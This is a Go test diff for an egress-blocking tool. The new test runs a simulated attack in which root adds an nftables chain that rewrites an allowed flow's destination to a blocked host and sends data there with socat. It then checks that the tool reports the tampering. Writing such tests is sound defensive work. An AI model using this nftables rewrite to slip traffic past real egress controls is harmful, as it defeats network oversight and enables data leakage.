@@ -59,3 +59,39 @@ func TestRunRestoresTamperedTable(t *testing.T) {
 		})
 	}
 }
+
+// TestRunReportsRewritesAfterOurRules: root adds a chain that runs after
+// ours and rewrites an allowed flow's destination to a blocked host. The
+// packet has passed our rules by then, so it gets there; the rewrite is
+// a tamper error naming the rule and nft, and run fails.
+func TestRunReportsRewritesAfterOurRules(t *testing.T) {
+	w := newWorld(t)
+	attack := "nft add table ip evil && nft add chain ip evil o '{ type filter hook output priority 10; }' && " +
+		"nft add rule ip evil o ip daddr 198.18.1.10 udp dport 9999 ip daddr set 198.18.1.11 && " +
+		"echo x | socat -u - UDP:198.18.1.10:9999"
+	dir := filepath.Join(w.tmp, "rewrite")
+	out, err := w.In(w.Runner, w.bin, "run", "--egress-policy", "block", "--upstream", "198.18.0.2",
+		"--allowed-endpoints", "198.18.1.10:9999", "--report-dir", dir, "--disable-file-monitoring", "--", "sh", "-c", attack).CombinedOutput()
+	if err == nil || !strings.Contains(string(out), "tampered with") {
+		t.Errorf("run did not fail on the rewrite: %v\n%s", err, out)
+	}
+	b, err := os.ReadFile(filepath.Join(dir, "report.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var rep struct {
+		Agent struct {
+			Errors []struct{ Component, Message string } `json:"errors"`
+		} `json:"agent"`
+	}
+	if err := json.Unmarshal(b, &rep); err != nil {
+		t.Fatal(err)
+	}
+	var named bool
+	for _, e := range rep.Agent.Errors {
+		named = named || e.Component == "guard" && strings.Contains(e.Message, "add rule ip evil o (payload set)") && strings.Contains(e.Message, "nft")
+	}
+	if !named {
+		t.Errorf("report's agent errors do not name the rewriting rule and nft: %+v", rep.Agent.Errors)
+	}
+}
